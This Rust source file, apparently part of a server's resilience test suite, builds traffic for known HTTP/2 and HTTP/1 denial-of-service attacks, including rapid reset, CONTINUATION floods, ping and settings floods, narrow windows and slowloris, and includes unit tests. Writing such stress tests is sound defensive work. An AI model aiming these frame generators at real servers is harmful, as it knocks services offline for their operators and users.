//! The ways to attack, with the bounds of each (pure).

use super::frame_orders::FrameOrder;
use crate::wire::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PADDED,
    PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, get_block, post_block,
    write_frame, write_settings,
};

/// How many connections flood a server at the same time.
pub(crate) const CONNECTIONS: usize = 4;

/// How many connections are slow at the same time.
pub(crate) const SLOW_CONNECTIONS: usize = 400;

/// How many requests one connection sends at most, even if the attack has time left.
const MAX_REQUESTS: u64 = 200_000;

/// How many small frames one connection sends at most. They are smaller than requests and cost the
/// server less.
const MAX_SMALL_FRAMES: u64 = 5_000_000;

/// The path that the attackers request.
const PATH: &str = "/plaintext";

/// How many small frames, or pipelined requests, are written at once.
const AT_ONCE: usize = 256;

/// How many streams of a connection have windows that open byte by byte.
const NARROW_STREAMS: u32 = 100;

/// The largest increment of a window. It makes any window overflow.
const WIDEST: u32 = 0x7FFF_FFFF;

/// The last number of a client's stream, which are odd. After it the connection cannot open
/// streams.
const LAST_STREAM: u32 = 0x7FFF_FFFF;

/// A way to attack.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Attack {
    /// This many HTTP/2 requests, and then a reset of each ("rapid reset", CVE-2023-44487).
    Resets(usize),
    /// This many requests, and then a WINDOW_UPDATE for each that makes the server reset it ("made
    /// you reset", CVE-2025-8671).
    ErrorResets(usize),
    /// PINGs whose acknowledgements nobody reads (CVE-2019-9512).
    Pings,
    /// SETTINGS whose acknowledgements nobody reads (CVE-2019-9515).
    Settings,
    /// A head that never ends, in CONTINUATION frames (CVE-2024-27316).
    Continuations,
    /// PRIORITY frames for streams that do not exist.
    Priorities,
    /// Responses whose windows open by one byte at a time (CVE-2019-9511).
    NarrowWindows,
    /// A request body in DATA frames of one byte and 255 bytes of padding.
    PaddedData,
    /// A request body in DATA frames without a byte (CVE-2019-9518).
    EmptyData,
    /// Frames of all kinds in an order that this seed generates.
    Generated(u64),
    /// HTTP/1 heads that grow by one byte at a time and never end ("slowloris").
    SlowHeads,
    /// HTTP/1 request bodies that grow by one byte at a time.
    SlowBodies,
    /// Pipelined HTTP/1 requests, all of whose responses are read.
    Pipelines,
    /// Pipelined HTTP/1 requests for large responses, none of which is read.
    UnreadResponses,
    /// Pipelined HTTP/1 requests for event streams, none of which is read.
    UnreadStreams,
}

impl Attack {
    /// Whether the attacker reads the server's bytes, which it then drops.
    pub(crate) fn reads(self) -> bool {
        !matches!(self, Self::Pings | Self::Settings | Self::UnreadResponses | Self::UnreadStreams)
    }

    /// Whether each connection sends one byte at a time, with a pause after each.
    pub(crate) fn is_slow(self) -> bool {
        matches!(self, Self::SlowHeads | Self::SlowBodies)
    }

    /// How many connections attack at the same time.
    pub(crate) fn connections(self) -> usize {
        if self.is_slow() { SLOW_CONNECTIONS } else { CONNECTIONS }
    }

    /// How many requests or frames one connection sends at most.
    pub(crate) fn max_sent(self) -> u64 {
        match self {
            Self::Resets(_) | Self::ErrorResets(_) => MAX_REQUESTS,
            _ => MAX_SMALL_FRAMES,
        }
    }

    /// How many requests or frames one block has.
    pub(crate) fn block_size(self) -> usize {
        match self {
            Self::Resets(requests) | Self::ErrorResets(requests) => requests,
            Self::SlowHeads | Self::SlowBodies => 1,
            _ => AT_ONCE,
        }
    }

    /// Whether the attack is one over HTTP/2.
    fn is_http2(self) -> bool {
        !matches!(
            self,
            Self::SlowHeads
                | Self::SlowBodies
                | Self::Pipelines
                | Self::UnreadResponses
                | Self::UnreadStreams
        )
    }
}

/// The blocks of one attacking connection, in order.
#[derive(Debug)]
pub(crate) struct Blocks {
    attack: Attack,
    request: Vec<u8>,
    next_stream: u32,
    order: FrameOrder,
}

impl Blocks {
    /// Writes the beginning of the connection into `to`. On HTTP/2 that is the preface, the
    /// SETTINGS, and the requests that the blocks need.
    pub(crate) fn begin(attack: Attack, to: &mut Vec<u8>) -> Self {
        let seed = if let Attack::Generated(seed) = attack { seed } else { 0 };
        let order = FrameOrder::new(seed);
        let blocks = Self { attack, request: get_block(PATH), next_stream: 1, order };
        if attack.is_http2() {
            to.extend_from_slice(PREFACE);
            let is_narrow = attack == Attack::NarrowWindows;
            write_settings(to, if is_narrow { &[(INITIAL_WINDOW_SIZE, 0)] } else { &[] });
        }
        match attack {
            Attack::Continuations => write_frame(to, HEADERS, END_STREAM, 1, &blocks.request),
            Attack::NarrowWindows => {
                let request = get_block("/large");
                for stream in narrow_streams() {
                    write_frame(to, HEADERS, END_HEADERS | END_STREAM, stream, &request);
                }
            }
            Attack::PaddedData | Attack::EmptyData => {
                write_frame(to, HEADERS, END_HEADERS, 1, &post_block("/publish"));
            }
            Attack::SlowHeads => to.extend_from_slice(b"GET /plaintext HTTP/1.1\r\nhost: a\r\nx: "),
            Attack::SlowBodies => to.extend_from_slice(
                b"POST /publish HTTP/1.1\r\nhost: a\r\ncontent-type: text/plain\r\n\
                  content-length: 100000\r\n\r\n",
            ),
            _ => {}
        }
        blocks
    }

    /// Writes the next block into `to`. Returns false when the connection has no stream numbers
    /// left.
    pub(crate) fn write(&mut self, to: &mut Vec<u8>) -> bool {
        let mut repeat = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
            (0..AT_ONCE).for_each(|_| write_frame(to, kind, flags, stream, payload));
        };
        match self.attack {
            Attack::Resets(requests) => {
                let flags = END_HEADERS | END_STREAM;
                return self.requests(to, requests, flags, RST_STREAM, CANCEL);
            }
            // The request stays open, so its stream has a window that can overflow.
            Attack::ErrorResets(requests) => {
                return self.requests(to, requests, END_HEADERS, WINDOW_UPDATE, WIDEST);
            }
            Attack::Pings => {
                for number in 0..AT_ONCE as u64 {
                    write_frame(to, PING, 0, 0, &number.to_be_bytes());
                }
            }
            Attack::Settings => repeat(SETTINGS, 0, 0, &[]),
            // A field whose literal name and value have one byte each.
            Attack::Continuations => repeat(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
            Attack::Priorities => {
                for number in 0..AT_ONCE as u32 {
                    write_frame(to, PRIORITY, 0, 2 * number + 1, &[0, 0, 0, 0, 7]);
                }
            }
            Attack::NarrowWindows => {
                for stream in narrow_streams().cycle().take(AT_ONCE) {
                    write_frame(to, WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
                }
            }
            Attack::PaddedData => {
                let mut payload = [0; 257];
                payload[..2].copy_from_slice(&[255, b'.']);
                repeat(DATA, PADDED, 1, &payload);
            }
            Attack::EmptyData => repeat(DATA, 0, 1, &[]),
            Attack::Generated(_) => (0..AT_ONCE).for_each(|_| self.order.write(to)),
            Attack::SlowHeads | Attack::SlowBodies => to.push(b'.'),
            Attack::Pipelines => pipeline(to, PATH),
            Attack::UnreadResponses => pipeline(to, "/large"),
            Attack::UnreadStreams => pipeline(to, "/firehose?n=1000000000"),
        }
        true
    }

    /// Writes requests, and then for each of them a frame of the kind `then` with the number in it.
    fn requests(
        &mut self,
        to: &mut Vec<u8>,
        count: usize,
        flags: u8,
        then: u8,
        number: u32,
    ) -> bool {
        let streams = || (self.next_stream..=LAST_STREAM).step_by(2).take(count);
        if streams().count() < count {
            return false;
        }
        for stream in streams() {
            write_frame(to, HEADERS, flags, stream, &self.request);
        }
        for stream in streams() {
            write_frame(to, then, 0, stream, &number.to_be_bytes());
        }
        self.next_stream += 2 * count as u32;
        true
    }
}

fn narrow_streams() -> impl Iterator<Item = u32> + Clone {
    (0..NARROW_STREAMS).map(|number| 2 * number + 1)
}

fn pipeline(to: &mut Vec<u8>, path: &str) {
    let request = format!("GET {path} HTTP/1.1\r\nhost: a\r\n\r\n");
    (0..AT_ONCE).for_each(|_| to.extend_from_slice(request.as_bytes()));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::frames::{Frame, Frames};

    /// The frames of two blocks, after the preface and the SETTINGS.
    fn two_blocks(attack: Attack) -> Vec<(u8, u8, u32)> {
        let mut wire = Vec::new();
        let mut blocks = Blocks::begin(attack, &mut wire);
        assert!(blocks.write(&mut wire) && blocks.write(&mut wire));
        let wire = wire.strip_prefix(PREFACE).expect("the preface");
        let mut seen = Vec::new();
        let on_frame = |frame: Frame<'_>| seen.push((frame.kind, frame.flags, frame.stream));
        Frames::default().feed(wire, on_frame).expect("frames of ours");
        assert_eq!(seen.remove(0), (SETTINGS, 0, 0));
        seen
    }

    #[test]
    fn requests_come_before_their_resets_and_no_stream_comes_again() {
        let (request, reset) = (END_HEADERS | END_STREAM, 0);
        let expected = [
            (HEADERS, request, 1),
            (HEADERS, request, 3),
            (RST_STREAM, reset, 1),
            (RST_STREAM, reset, 3),
            (HEADERS, request, 5),
            (HEADERS, request, 7),
            (RST_STREAM, reset, 5),
            (RST_STREAM, reset, 7),
        ];
        assert_eq!(two_blocks(Attack::Resets(2)), expected);
    }

    #[test]
    fn a_request_that_the_server_is_to_reset_is_still_open() {
        let expected = [
            (HEADERS, END_HEADERS, 1),
            (WINDOW_UPDATE, 0, 1),
            (HEADERS, END_HEADERS, 3),
            (WINDOW_UPDATE, 0, 3),
        ];
        assert_eq!(two_blocks(Attack::ErrorResets(1)), expected);
    }

    #[test]
    fn pings_and_settings_want_an_acknowledgement() {
        for (attack, kind) in [(Attack::Pings, PING), (Attack::Settings, SETTINGS)] {
            assert_eq!(two_blocks(attack), vec![(kind, 0, 0); 2 * AT_ONCE]);
        }
    }

    #[test]
    fn a_connection_without_stream_numbers_is_over() {
        let mut blocks = Blocks::begin(Attack::Resets(2), &mut Vec::new());
        blocks.next_stream = LAST_STREAM - 2;
        let mut wire = Vec::new();
        assert!(blocks.write(&mut wire));
        assert!(!blocks.write(&mut wire));
    }
}
